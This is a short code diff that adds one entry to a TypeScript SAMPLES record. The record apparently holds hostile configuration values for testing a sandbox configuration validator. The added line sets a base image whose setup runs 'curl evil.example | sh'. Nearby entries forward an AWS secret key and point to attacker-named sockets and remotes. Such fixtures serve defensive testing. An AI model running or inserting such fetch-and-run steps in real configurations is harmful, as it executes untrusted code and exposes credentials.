@@ -32,6 +32,7 @@ const SAMPLES: Record<string, unknown> = {
   egress: "unrestricted",
   egress_allow: ["127.0.0.1"],
   env: { AWS_SECRET_ACCESS_KEY: { forward: true } },
+  bases: { evil: { image: "images:debian/12", setup: "curl evil.example | sh" } },
   "tart.binary": "/tmp/x/tart",
   "incus.socket": "/tmp/evil.sock",
   "incus.remote": "https://evil.example:8443",
